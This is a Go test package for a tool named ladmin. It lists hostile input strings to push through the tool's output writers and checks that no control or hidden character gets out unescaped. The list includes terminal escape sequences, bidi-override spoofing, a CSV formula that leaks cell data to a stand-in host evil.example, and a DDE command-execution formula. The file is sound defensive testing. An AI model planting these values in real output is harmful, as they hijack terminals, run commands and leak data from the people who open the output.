// Package texttest holds the corpus of hostile strings that tests across
// ladmin push through every writer, and the check that nothing of it gets
// out raw.
package texttest

import (
	"fmt"
	"strings"
	"unicode/utf8"

	"github.com/ladmin/ladmin/internal/text"
)

// Hostile are names, emails and other values an account or an input file
// may hold to attack whoever reads ladmin's output.
var Hostile = []string{
	"\x1b]0;owned\x07",        // retitle the terminal (OSC)
	"\x1b[2J\x1b[H",           // clear the screen (CSI)
	"ana\rMallory",            // overwrite the line
	"two\nlines",              // start a new table row
	"tab\there",               // shift columns
	"csi\u009b31m",            // C1 CSI
	"del\x7f",                 // DEL
	"evil\u202egpj.exe",       // right-to-left override
	"iso\u2066late\u2069",     // bidi isolates
	"owner\u200b@example.com", // zero-width space
	"wj\u2060x bom\ufeffx soft\u00adhyphen",
	"line\u2028sep para\u2029sep",
	"=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")",
	"=cmd|'/C calc'!A0",
	"+1+1", "-2+3", "@SUM(A1)", "'=quoted",
}

// Long is a value far longer than anything a message should echo whole.
var Long = strings.Repeat("A", 1<<20)

// Raw describes the first character of out that text.Safe would have
// escaped (other than the newlines the writer itself puts between lines), or
// returns "" when out holds none.
func Raw(out string) string {
	for i, r := range out {
		switch {
		case r == '\n':
			continue
		case r == utf8.RuneError:
			if _, size := utf8.DecodeRuneInString(out[i:]); size == 1 {
				return fmt.Sprintf("an invalid UTF-8 byte at offset %d in %q", i, context(out, i))
			}
		case text.IsHiddenOrControl(r):
			return fmt.Sprintf("raw %U at offset %d in %q", r, i, context(out, i))
		}
	}
	return ""
}

func context(s string, i int) string {
	lo, hi := max(0, i-40), min(len(s), i+40)
	return s[lo:hi]
}
